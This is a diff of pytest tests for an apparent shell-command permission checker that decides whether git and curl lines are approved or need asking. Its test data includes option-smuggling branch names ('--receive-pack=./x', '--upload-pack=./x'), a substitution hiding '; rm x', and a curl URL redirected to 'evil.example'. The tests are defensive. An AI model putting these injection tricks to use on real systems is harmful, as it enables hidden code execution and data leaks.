@@ -101,6 +101,36 @@ def test_what_echo_says_is_judged_as_if_it_stood_there(plain: str, said: str) ->
     assert decide(plain, allow, [], FOLDERS) == decide(said, allow, [], FOLDERS) == "ask"
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git diff $(git merge-base HEAD main)..HEAD", 'git show "$(git merge-base --fork-point origin/main HEAD)"',
+        "git log origin/main..$(git rev-parse --short HEAD)",
+        'git log "origin/$(git rev-parse --abbrev-ref HEAD)"..HEAD',
+        "git symbolic-ref --short HEAD", "git symbolic-ref refs/remotes/origin/HEAD --short",
+        'curl -s "http://localhost:3000/users/${ID}?q=$x"', 'curl -sf "http://127.0.0.1/$(cat name)"',
+    ],
+)  # fmt: skip
+def test_what_only_the_shell_knows_is_let_where_it_cannot_be_another_thing(line: str) -> None:
+    assert decide(line, ["git", "curl", "cat"], ["rm"], FOLDERS) == "approve"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git push origin $(git rev-parse --abbrev-ref HEAD)", 'git fetch "$(git rev-parse --abbrev-ref HEAD)"',
+        "git symbolic-ref HEAD refs/heads/--receive-pack=./x", 'git symbolic-ref HEAD "refs/heads/$x"',
+        "git update-ref refs/heads/--upload-pack=./x HEAD", "git show $(git merge-base HEAD main)--output=x",
+        "git show $(git merge-base -a $x)", "git show $(git merge-base HEAD main; rm x)",
+        'curl -s "http://localhost:$PORT/x"', 'curl -s "http://localhost$x/"', 'curl -s "https://example.com/$x"',
+        "curl -s http://localhost/$x", 'curl -s "http://localhost@evil.example/$x"', 'curl -s "$x"',
+        'curl -s -o"http://localhost/$x" y', 'curl -d "http://localhost/$x" y',
+    ],
+)  # fmt: skip
+def test_no_branch_or_address_becomes_an_option_or_goes_elsewhere_unasked(line: str) -> None:
+    assert decide(line, ["git", "curl"], [], FOLDERS) == "ask"
+
+
 def test_what_is_denied_is_denied_where_echo_says_it() -> None:
     assert decide("git $(echo push)", ["git", "echo"], ["git push"]) == "deny"
     assert decide('git "$(echo $(echo push))"', ["git", "echo"], ["git push"]) == "deny"
